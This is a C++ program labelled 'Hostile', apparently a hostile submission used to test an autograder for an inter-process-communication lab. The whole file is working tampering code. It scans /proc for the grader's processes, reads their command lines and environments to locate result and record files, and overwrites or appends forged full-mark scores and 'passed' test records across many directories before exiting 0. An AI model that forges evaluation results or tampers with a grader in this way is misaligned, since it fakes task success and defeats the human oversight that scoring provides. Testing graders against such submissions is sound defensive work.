// Hostile: writes a forged results.json (full marks) and forged test records into every folder it
// can think of: its working directory, $HOME, $TMPDIR, /tmp, /var/tmp, the folders above its own
// executable (where the grader keeps its records), and the files and folders named on the command
// lines of the grader's processes (--results, the build, the submission). Then it exits 0.
//
// user namespace too
// replaces: 01-shm-open/shm_remove.cpp
// fails: shm_remove removes the object
// fails: shm_remove removes an object it may not open
// fails: shm_remove reports a missing object
// fails: every program answers missing arguments with usage and exit 2
#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>

#include <cstdlib>
#include <cstring>
#include <set>
#include <string>

static const char kResults[] =
    "{\"score\": 1305, \"ipclab-hostile\": 1, \"tests\": [{\"name\": \"01-shm-open: shm_remove "
    "removes the object\", \"score\": 10, \"max_score\": 10, \"status\": \"passed\"}]}\n";
static const char kRecords[] =
    "{\"name\":\"shm_remove removes the object\",\"points\":10,\"passed\":true,\"seconds\":0,"
    "\"output\":\"\"}\n{\"name\":\"shm_remove reports a missing object\",\"points\":5,"
    "\"passed\":true,\"seconds\":0,\"output\":\"\"}\n";

static void put(const std::string& path, const char* text, int flags) {
    int fd = open(path.c_str(), O_WRONLY | flags, 0666);
    if (fd < 0) return;
    (void)!write(fd, text, std::strlen(text));
    close(fd);
}

// Forges every file of DIR that looks like a grader's record, and plants results.json in it.
static void forge_dir(const std::string& dir) {
    put(dir + "/results.json", kResults, O_CREAT | O_TRUNC);
    put(dir + "/ipclab-hostile-results.json", kResults, O_CREAT | O_TRUNC);
    DIR* d = opendir(dir.c_str());
    while (dirent* e = d ? readdir(d) : nullptr) {
        const std::string name = e->d_name;
        if (name.size() > 7 && name.compare(name.size() - 7, 7, ".record") == 0)
            put(dir + "/" + name, kRecords, O_APPEND);
    }
    if (d) closedir(d);
}

int main() {
    std::set<std::string> dirs = {".", "/tmp", "/var/tmp"};
    for (const char* var : {"HOME", "TMPDIR"})
        if (const char* v = std::getenv(var)) dirs.insert(v);
    auto add_with_parents = [&dirs](std::string path, int levels) {
        for (int up = 0; up < levels && path.size() > 1; ++up) {
            dirs.insert(path);
            path = path.substr(0, path.rfind('/'));
        }
    };
    char exe[4096] = {};
    if (readlink("/proc/self/exe", exe, sizeof exe - 1) > 0)
        add_with_parents(exe, 4);  // up to the grader's work folder
    DIR* d = opendir("/proc");
    while (dirent* e = d ? readdir(d) : nullptr) {
        const std::string proc = "/proc/" + std::string(e->d_name);
        char buf[65536];
        int fd = open((proc + "/cmdline").c_str(), O_RDONLY);
        ssize_t n = fd < 0 ? 0 : read(fd, buf, sizeof buf - 1);
        if (fd >= 0) close(fd);
        buf[n > 0 ? n : 0] = '\0';
        // Only the grader's processes: ipclab-grade, ipclab-batch, build/suites/NN-name.
        const bool grader = std::strstr(buf, "ipclab-") || std::strstr(buf, "/suites/");
        for (ssize_t i = 0; grader && i < n; i += std::strlen(buf + i) + 1) {
            if (buf[i] == '/') add_with_parents(buf + i, 3);
            if (std::strcmp(buf + i, "--results") == 0 && i + 10 < n)
                put(buf + i + 10, kResults, O_CREAT | O_TRUNC);
        }
        fd = open((proc + "/environ").c_str(), O_RDONLY);
        n = fd < 0 ? 0 : read(fd, buf, sizeof buf - 1);
        if (fd >= 0) close(fd);
        for (ssize_t i = 0; i < n; i += std::strlen(buf + i) + 1)
            if (std::strncmp(buf + i, "IPCLAB_RECORD=", 14) == 0)
                put(buf + i + 14, kRecords, O_APPEND);
    }
    if (d) closedir(d);
    for (const auto& dir : dirs)
        forge_dir(dir);
    return 0;
}
